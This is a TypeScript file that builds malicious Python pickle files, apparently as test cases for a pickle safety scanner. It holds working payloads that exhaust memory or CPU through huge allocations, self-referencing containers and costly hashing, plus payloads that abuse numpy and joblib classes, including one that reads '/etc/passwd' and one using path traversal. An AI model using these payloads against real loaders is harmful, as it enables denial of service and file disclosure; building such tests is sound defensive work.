import {
  BUILD,
  EMPTY_DICT,
  EMPTY_TUPLE,
  get,
  global,
  int,
  MARK,
  MEMOIZE,
  NEWOBJ,
  NEWOBJ_EX,
  NONE,
  pickled,
  POP,
  proto,
  put,
  REDUCE,
  SETITEMS,
  STOP,
  text,
  TUPLE,
  TUPLE1,
  TUPLE2,
  TUPLE3,
} from './assembler.ts'
import type { Attack } from './attacks.ts'

/** LONG1 of this number. */
function long(value: bigint): Buffer {
  const bytes = Buffer.alloc(8)
  bytes.writeBigInt64LE(value)
  return Buffer.concat([Buffer.from([0x8a, 8]), bytes])
}

const huge = long(1n << 40n)
const range = pickled(global('builtins', 'range'), huge, TUPLE1, REDUCE)
const list = ']'
const append = 'a'
const dup = '2'
const additems = 0x90

/** Each list holds the one before twice. */
const laughs = Array.from({ length: 60 }, (_, level) => {
  return pickled(list, MARK, get(level), get(level), 'e', put(level + 1))
})
/** The same from the outside in: each list is filled after it was put into the one before. */
const laterLaughs = Array.from({ length: 60 }, (_, level) =>
  pickled(get(level), MARK, get(level + 1), get(level + 1), 'e', POP),
)

/** Pickles that import nothing bad, and exhaust who loads them, or who compares, copies or prints what was loaded. */
const growing: Record<string, Buffer> = {
  'makes a bytearray of a tebibyte': pickled(proto(2), global('builtins', 'bytearray'), huge, TUPLE1, REDUCE, STOP),
  'makes bytes by NEWOBJ': pickled(proto(2), global('builtins', 'bytes'), huge, TUPLE1, NEWOBJ, STOP),
  'makes an array by a keyword': pickled(
    proto(4), global('numpy', 'ndarray'), EMPTY_TUPLE, EMPTY_DICT, text('shape'), huge, 's', NEWOBJ_EX, STOP,
  ), // prettier-ignore
  'makes an array of many dimensions': pickled(
    proto(2), global('numpy.core.multiarray', '_reconstruct'), global('numpy', 'ndarray'),
    int(100_000), int(100_000), TUPLE2, text('b'), TUPLE3, REDUCE, STOP,
  ), // prettier-ignore
  'makes a storage of PyTorch': pickled(proto(2), global('torch', 'ByteStorage'), huge, TUPLE1, REDUCE, STOP),
  'has another function make a bytearray': pickled(
    proto(2), MARK, global('builtins', 'bytearray'), NONE, huge, TUPLE1, NONE, TUPLE, put(1), POP,
    global('torch._tensor', '_rebuild_from_type_v2'), get(1), REDUCE, STOP,
  ), // prettier-ignore
  'writes out a long range': pickled(proto(2), global('builtins', 'list'), range, TUPLE1, REDUCE, STOP),
  'counts a long range': pickled(proto(2), global('collections', 'Counter'), range, TUPLE1, REDUCE, STOP),
  'makes its arguments by a call': pickled(
    proto(2), global('builtins', 'bytearray'), global('builtins', 'tuple'), list, huge, append, TUPLE1, REDUCE, REDUCE, STOP,
  ), // prettier-ignore
  'writes out a decimal': pickled(
    proto(2), global('builtins', 'int'), global('decimal', 'Decimal'), text('1E+999999999'), TUPLE1, REDUCE, TUPLE1, REDUCE, STOP,
  ), // prettier-ignore
  'reads a fraction with an exponent': pickled(
    proto(2), global('fractions', 'Fraction'), text('1e999999999'), TUPLE1, REDUCE, STOP,
  ), // prettier-ignore
  'has a number of a hundred thousand digits': Buffer.from(`L${'9'.repeat(100_000)}L\n.`),
  'has a number of a mebibyte': Buffer.concat([
    Buffer.from([0x80, 2, 0x8b, 0, 0, 0x10, 0]), Buffer.alloc(1024 * 1024, 1), Buffer.from(STOP),
  ]), // prettier-ignore
  'remembers a value as the two billionth': pickled(proto(2), NONE, Buffer.from([0x72, 0xff, 0xff, 0xff, 0x7f]), STOP),
  'has lists that hold each other': pickled(proto(2), list, put(0), ...laughs, STOP),
  'has lists that are filled from the outside in': pickled(
    proto(2), ...Array.from({ length: 61 }, (_, level) => pickled(list, put(level), POP)), ...laterLaughs, get(0), STOP,
  ), // prettier-ignore
  'has dictionaries that hold each other': pickled(
    proto(2), EMPTY_DICT, put(0),
    ...Array.from({ length: 60 }, (_, level) =>
      pickled(EMPTY_DICT, MARK, text('a'), get(level), text('b'), get(level), SETITEMS, put(level + 1)),
    ),
    STOP,
  ), // prettier-ignore
  'has a key that takes an age to hash': pickled(
    proto(4), EMPTY_DICT, EMPTY_TUPLE, ...Array.from({ length: 60 }, () => pickled(dup, TUPLE2)), NONE, 's', STOP,
  ), // prettier-ignore
  'hashes such a tuple, and throws it away': pickled(
    proto(4), Buffer.from([0x8f]), MARK, EMPTY_TUPLE, ...Array.from({ length: 60 }, () => pickled(dup, TUPLE2)), additems,
    POP, NONE, STOP,
  ), // prettier-ignore
  'has queues that hold each other': pickled(
    proto(4), global('collections', 'deque'), EMPTY_TUPLE, REDUCE, MEMOIZE,
    ...Array.from({ length: 60 }, (_, level) =>
      pickled(global('collections', 'deque'), EMPTY_TUPLE, REDUCE, MARK, get(level), get(level), 'e', MEMOIZE),
    ),
    STOP,
  ), // prettier-ignore
}

/** The generator `__bit_generator_ctor` makes, set to this state. */
function generator(state: Buffer): Buffer {
  const made = pickled(global('numpy.random._pickle', '__bit_generator_ctor'), text('MT19937'), TUPLE1, REDUCE)
  return pickled(proto(2), made, state, BUILD, STOP)
}

function stateOf(position: Buffer): Buffer {
  const inner = pickled(EMPTY_DICT, MARK, text('key'), list, text('pos'), position, SETITEMS)
  return pickled(EMPTY_DICT, MARK, text('bit_generator'), text('MT19937'), text('state'), inner, SETITEMS)
}

function arrayFile(...items: (Buffer | string)[]): Buffer {
  const made = pickled(global('joblib.numpy_pickle', 'NDArrayWrapper'), EMPTY_TUPLE, NEWOBJ)
  return pickled(proto(2), made, EMPTY_DICT, MARK, ...items, SETITEMS, BUILD, STOP)
}

/** States that their classes believe. */
const states: Record<string, Buffer> = {
  'sets a random generator behind its numbers': generator(stateOf(int(70_000))),
  'sets a random generator before its numbers': generator(stateOf(int(-1))),
  'sets a random generator to a state of unknown kind': generator(pickled(list)),
  'reads an array from an absolute path': arrayFile(text('filename'), text('/etc/passwd')),
  'reads an array from the folder above': arrayFile(text('filename'), text('../x.npy')),
  'reads an array from a second name': arrayFile(text('filename'), text('a.npy'), text('filename'), text('b.npy')),
  'reads an array from no name': arrayFile(text('subclass'), NONE),
  'has another function make an array wrapper': pickled(
    proto(2), global('copy_reg', '_reconstructor'), global('joblib.numpy_pickle', 'NumpyArrayWrapper'),
    global('builtins', 'object'), NONE, TUPLE3, REDUCE, STOP,
  ), // prettier-ignore
}

export function growthAttacks(): Attack[] {
  return Object.entries({ ...growing, ...states }).map(([name, bytes]) => ({ name, extension: 'pkl', bytes }))
}
